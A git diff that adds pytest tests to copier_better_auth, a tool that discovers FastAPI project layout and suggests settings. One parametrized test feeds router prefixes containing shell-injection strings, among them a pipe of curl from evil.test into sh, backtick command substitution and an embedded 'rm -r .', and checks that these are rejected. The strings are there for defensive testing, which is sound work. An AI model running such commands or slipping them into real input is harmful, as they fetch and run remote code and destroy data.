@@ -10,6 +10,8 @@ from pathlib import Path
 
 import pytest
 from copier_better_auth.discovery import discover
+from copier_better_auth.discovery.suggestions import suggestions
+from copier_better_auth.repository import Repository
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from support.repositories import build, flat, full_stack
@@ -68,6 +70,46 @@ def test_the_full_stack_shape(tmp_path: Path) -> None:
     evidence = found["evidence"]
     assert isinstance(evidence, dict)
     assert evidence["app_module"][0].startswith("backend/app/main.py:")
+
+
+@pytest.mark.parametrize(
+    ("written", "found"),
+    [
+        ("/api/v1.0", "/api/v1.0"),
+        ("/{tenant}/api", "/{tenant}/api"),
+        ("/api; curl evil.test | sh #", ""),
+        ("/${process.exit()}", ""),
+        ("/`id`", ""),
+        ("/api\\n\\nrm -r .", ""),
+    ],
+)
+def test_a_prefix_is_a_path_and_no_command(
+    tmp_path: Path, written: str, found: str
+) -> None:
+    """It is rendered into code, and into commands that people paste into a shell."""
+    routers = f'app.include_router(x, prefix="{written}")\n' * 2
+    build(tmp_path, {"main.py": APP + routers, "requirements.txt": "fastapi\n"})
+    suggested = suggestions(discover(tmp_path), Repository(tmp_path))
+    assert suggested["auth_api_prefix"] == found
+
+
+def test_a_host_of_another_database_is_told_first(tmp_path: Path) -> None:
+    """Its data stay where they are, which the report says before any question."""
+    mine = tmp_path / "mysql"
+    files = {
+        "main.py": APP,
+        "requirements.txt": "fastapi\nsqlalchemy\naiomysql\n",
+        "db.py": """
+            from sqlalchemy.ext.asyncio import create_async_engine
+
+            engine = create_async_engine("mysql+aiomysql://app@localhost/app")
+            """,
+    }
+    build(mine, files)
+    said = "Auth tables        in a PostgreSQL of their own; the application keeps"
+    assert said in run_discover(mine).stdout
+    full_stack(tmp_path / "postgres")
+    assert "Auth tables" not in run_discover(tmp_path / "postgres").stdout
 
 
 def test_relative_imports_mean_a_package(tmp_path: Path) -> None:
